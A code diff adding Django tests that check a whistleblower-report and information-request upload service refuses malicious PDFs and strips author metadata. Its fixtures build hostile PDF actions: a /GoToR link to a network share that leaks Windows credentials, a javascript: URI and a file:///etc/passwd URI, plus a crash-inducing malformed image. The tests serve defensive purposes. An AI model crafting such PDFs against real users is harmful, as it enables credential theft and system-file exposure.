@@ -11,7 +11,7 @@ from pypdf import PdfReader, PdfWriter
 
 from layanan.core.models.tickets import Attachment, Ticket
 from layanan.wbs.privacy import WbsLogFilter, client_pseudonym
-from tests.layanan.conftest import PDF_BYTES, dump_database_text, minimal_pdf, objstm_pdf, wbs_payload
+from tests.layanan.conftest import PDF_BYTES, dump_database_text, minimal_pdf, objstm_pdf, ppid_payload, wbs_payload
 
 pytestmark = pytest.mark.django_db
 
@@ -368,3 +368,55 @@ def test_escaped_and_compressed_active_content_is_refused(api_client):
     upload = SimpleUploadedFile("e.pdf", harmless, content_type="application/pdf")
     assert api_client.post(REPORTS, {**wbs_payload(), "files": [upload]}, format="multipart").status_code == 201
     assert Ticket.objects.filter(service="wbs").count() == 1
+
+
+# --- review findings (issue 15): remote actions, author info reached another way, files that crash the parser ----
+def test_remote_and_script_links_are_active_content(api_client):
+    """``/GoToR`` to a network share (leaks the reader's Windows credentials) and ``javascript:``/``file:``
+    links are refused; an ordinary https link is not."""
+    gotor = minimal_pdf(page_extra=b"/AA << /O << /S /GoToR /F (\\\\\\\\10.0.0.1\\\\share\\\\x.pdf) >> >> ")
+    uri_js = minimal_pdf((b"<< /S /URI /URI (javascript:alert(1)) >>",), catalog_extra=b"/OpenAction 4 0 R ")
+    uri_file = minimal_pdf((b"<< /S /URI /URI (file:///etc/passwd) >>",), catalog_extra=b"/OpenAction 4 0 R ")
+    link = minimal_pdf((b"<< /S /URI /URI (https://www.example.org/) >>",), catalog_extra=b"/OpenAction 4 0 R ")
+    for name, data in (("a.pdf", gotor), ("b.pdf", uri_js), ("c.pdf", uri_file)):
+        upload = SimpleUploadedFile(name, data, content_type="application/pdf")
+        response = api_client.post(
+            "/api/v2/ppid/requests/", {**ppid_payload(), "attachments": [upload]}, format="multipart"
+        )
+        assert response.status_code == 400 and name in str(response.json()), name
+    upload = SimpleUploadedFile("d.pdf", link, content_type="application/pdf")
+    ok = api_client.post("/api/v2/ppid/requests/", {**ppid_payload(), "attachments": [upload]}, format="multipart")
+    assert ok.status_code == 201
+
+
+def test_an_author_reached_through_an_article_thread_is_removed(api_client):
+    """The reviewer's ``thread_bead.pdf``: a page bead whose thread carries ``/I << /Author >>``, and a page
+    with ``/LastModified``."""
+    bead = minimal_pdf(
+        (
+            b"<< /Type /Bead /T 5 0 R /N 4 0 R /V 4 0 R /P 3 0 R /R [0 0 100 100] >>",
+            b"<< /Type /Thread /F 4 0 R /I << /Author (Budi Santoso) /Title (Catatan) >> >>",
+        ),
+        catalog_extra=b"/Threads [5 0 R] ",
+        page_extra=b"/B [4 0 R] /LastModified (D:20260301093000+07'00') ",
+    )
+    upload = SimpleUploadedFile("bead.pdf", bead, content_type="application/pdf")
+    response = api_client.post(REPORTS, {**wbs_payload(), "files": [upload]}, format="multipart")
+    assert response.status_code == 201, response.content
+    stored = Attachment.objects.get(ticket__tracking_number=response.json()["tracking_number"]).file.open("rb")
+    cleaned = stored.read()
+    assert b"Budi Santoso" not in cleaned and b"/Author" not in cleaned and b"/LastModified" not in cleaned
+
+
+def test_a_pdf_the_parser_cannot_handle_is_refused_not_a_500(api_client):
+    """An image of absurd size (``/Width 99999999 /Height 0``) made the cleaner divide by zero."""
+    image = b"<< /Type /XObject /Subtype /Image /Width 99999999 /Height 0 /ColorSpace /DeviceGray "
+    image += b"/BitsPerComponent 8 /Length 1 >>\nstream\n\x00\nendstream"
+    broken = minimal_pdf(
+        (image, b"<< /Length 21 >>\nstream\nq 10 0 0 10 0 0 cm /Im0 Do Q\nendstream"),
+        page_extra=b"/Resources << /XObject << /Im0 4 0 R >> >> /Contents 5 0 R ",
+    )
+    upload = SimpleUploadedFile("pindaian.pdf", broken, content_type="application/pdf")
+    response = api_client.post(REPORTS, {**wbs_payload(), "files": [upload]}, format="multipart")
+    assert response.status_code == 400 and "pindaian.pdf" in str(response.json())
+    assert not Ticket.objects.filter(service="wbs").exists()
